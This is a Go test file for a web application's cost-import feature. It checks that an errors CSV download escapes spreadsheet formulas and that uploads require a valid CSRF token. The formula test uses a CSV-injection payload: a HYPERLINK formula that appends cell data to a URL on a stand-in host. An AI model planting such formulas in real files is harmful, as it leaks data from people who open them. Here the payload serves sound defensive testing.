package web_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/kluwen/kluwen/internal/sqlstore"
	"github.com/kluwen/kluwen/internal/testdb"
	"github.com/kluwen/kluwen/internal/web"
)

// TestCostImportErrorsCSVFormulas: the errors download names columns by the
// file's own headers; a header a spreadsheet would run as a formula comes out
// quoted, as in the cost exports.
func TestCostImportErrorsCSVFormulas(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *sqlstore.DB) {
		w := newWorld(t, db, web.Config{})
		agent := w.signedIn("agent")
		const header = `=HYPERLINK("https://example.org/?"&A1;"klik")`
		csv := "Kenmerk,Huishouden,\"" + strings.ReplaceAll(header, `"`, `""`) + "\",Aantal,Datum\n" +
			fmt.Sprintf("F-1,%d,GEEN-POST,1,01-03-2024\n", w.household)
		path := uploadFile(t, agent, "formule.csv", []byte(csv))
		m := agent.get(path)
		v := formValues(t, m.Body, "koppeling-formulier")
		v.Set("kostenpostCode", header)
		v.Set("koppeling", "1")
		res := agent.get(path + "/fouten.csv?" + v.Encode())
		check{status: 200, contains: []string{`2;"'=HYPERLINK(`}}.verify(t, res)
		for _, line := range strings.Split(res.Body, "\n") {
			for _, cell := range strings.Split(line, ";") {
				if strings.HasPrefix(strings.TrimPrefix(cell, `"`), "=") {
					t.Errorf("a cell starts a formula: %q", line)
				}
			}
		}
	})
}

// TestCostImportUploadCSRF: the multipart upload form needs the session's CSRF
// token like every other form; without it nothing is stored.
func TestCostImportUploadCSRF(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *sqlstore.DB) {
		w := newWorld(t, db, web.Config{})
		agent := w.signedIn("agent")
		agent.get("/kosten/importeren")
		token := agent.csrf
		for _, tok := range []string{"", "niet-het-token"} {
			agent.csrf = tok
			check{status: 403}.verify(t, agent.upload("/kosten/importeren", "a.csv", []byte(importCSV(w))))
		}
		agent.csrf = token
		if n := w.uploadCount(t); n != 0 {
			t.Fatalf("%d uploads stored without a valid CSRF token", n)
		}
	})
}
